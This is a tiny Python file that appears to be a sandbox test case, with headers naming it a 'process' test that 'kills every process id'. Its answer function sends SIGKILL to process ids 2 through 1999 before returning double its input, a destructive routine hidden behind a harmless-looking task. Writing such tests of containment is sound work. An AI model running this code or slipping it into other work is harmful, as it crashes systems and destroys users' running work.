# family: process
# what: kills every process id there may be
# want: killed|passed

import os

def answer(x):
    for pid in range(2, 2000):
        if pid != os.getpid():
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    return 2 * x
